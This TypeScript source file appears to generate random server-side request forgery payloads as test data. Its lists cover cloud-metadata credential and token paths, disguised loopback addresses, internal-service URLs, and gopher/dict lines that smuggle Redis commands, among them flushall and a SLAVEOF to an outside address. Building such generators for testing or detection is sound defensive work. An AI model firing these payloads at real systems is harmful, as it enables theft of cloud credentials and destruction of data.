import type { Random } from "../random.ts"
import { unixFile } from "./files.ts"
import { hostName, identifier, ipAddress, oneOf } from "./grammar.ts"

/**
 * Addresses that only the server itself, or its cloud, can reach. A plain address of the loopback
 * is what developers use all day: it counts only in disguise or with the path of an inner service.
 */
export function serverSideRequest(random: Random): string {
  if (random.chance(0.3)) return rawProtocol(random)
  const lead = random.pick(["", "", "", "url=", "uri=", "next=", "dest=", "target="])
  const scheme = random.pick(["http://", "http://", "https://", "http:\\\\", "url:http://"])
  const target = `${scheme}${oneOf(random, [cloudMetadata, cloudMetadata, disguisedLoopback, innerService])}`
  return random.pick([
    `${lead}${target}`,
    `${lead}${target}`,
    `${lead}${encodeURIComponent(target)}`,
    JSON.stringify({
      [random.pick(["url", "webhook", "callback", "image", identifier(random)])]: target,
    }),
  ])
}

function cloudMetadata(random: Random): string {
  const host = random.pick([
    "169.254.169.254",
    "169.254.169.254",
    "[fd00:ec2::254]",
    "metadata.google.internal",
    "100.100.100.200",
    "2852039166",
    "0xa9fea9fe",
    `${identifier(random)}@169.254.169.254`,
    "0251.0376.0251.0376",
    "[::ffff:a9fe:a9fe]",
    "169.254.170.2",
    "192.0.0.192",
    "instance-data",
    "rancher-metadata",
  ])
  const path = random.pick([
    "/",
    "/latest/meta-data/",
    "/latest/meta-data/iam/security-credentials/",
    "/latest/meta-data/hostname",
    "/latest/user-data",
    "/latest/dynamic/instance-identity/document",
    "/computeMetadata/v1/instance/service-accounts/default/token",
    "/metadata/instance?api-version=2021-02-01",
    "/opc/v1/instance/",
    "/latest/api/token",
    "/v2/credentials",
    "/openstack/latest/meta_data.json",
    "/metadata/identity/oauth2/token",
  ])
  return `${host}${path}`
}

function disguisedLoopback(random: Random): string {
  const host = random.pick([
    "2130706433",
    "0x7f000001",
    "017700000001",
    "0x7f.1",
    "127.1",
    "127.0.1",
    "[::ffff:127.0.0.1]",
    "[0:0:0:0:0:0:0:1]",
    "127.0.0.1.nip.io",
    `${identifier(random)}.com@127.0.0.1`,
    `127.0.0.1%2523@${hostName(random)}`,
    "localhost%00",
    "0",
    "0x7f.0x0.0x0.0x1",
    "0177.0.0.1",
    "①②⑦.⓪.⓪.①",
    "127.127.127.127",
    "[::]",
    `${hostName(random)}#@127.0.0.1`,
    `${hostName(random)}\\@localhost`,
  ])
  return `${host}${random.pick(["", "/", ":22", ":80/", ":6379/", "/admin", `/${identifier(random)}`])}`
}

function innerService(random: Random): string {
  const host = random.pick(["127.0.0.1", "localhost", "0.0.0.0", "[::]", "[::1]"])
  return `${host}${random.pick([":22/", ":25/", ":2375/containers/json", ":6379/", ":9200/_cat/indices", ":11211/", ":8500/v1/kv/?recurse", ":10250/pods", "/server-status", ":8080/actuator/env", "/latest/meta-data/", ":5984/_all_dbs"])}`
}

/** Protocols by which one line can be written into a service that speaks another. */
function rawProtocol(random: Random): string {
  const port = random.pick([6379, 25, 11211, 3306, 9000, 80])
  const line = random.pick([
    "*1%0d%0a$8%0d%0aflushall%0d%0a",
    "EHLO%20x%0aMAIL%20FROM",
    "stats%0aquit",
    "info",
    "set%201%20%22x%22",
    "SLAVEOF%201.2.3.4%206379",
  ])
  return oneOf(random, [
    (r) => `gopher://${r.pick(["127.0.0.1", "localhost", ipAddress(r)])}:${port}/_${line}`,
    (r) => `dict://${r.pick(["127.0.0.1", "localhost", ipAddress(r)])}:${port}/${line}`,
    (r) =>
      `${r.pick(["ldap", "tftp", "sftp", "ftp"])}://${hostName(r)}:${r.between(1, 65535)}/${identifier(r)}`,
    (r) => `netdoc://${unixFile(r)}`,
  ])
}
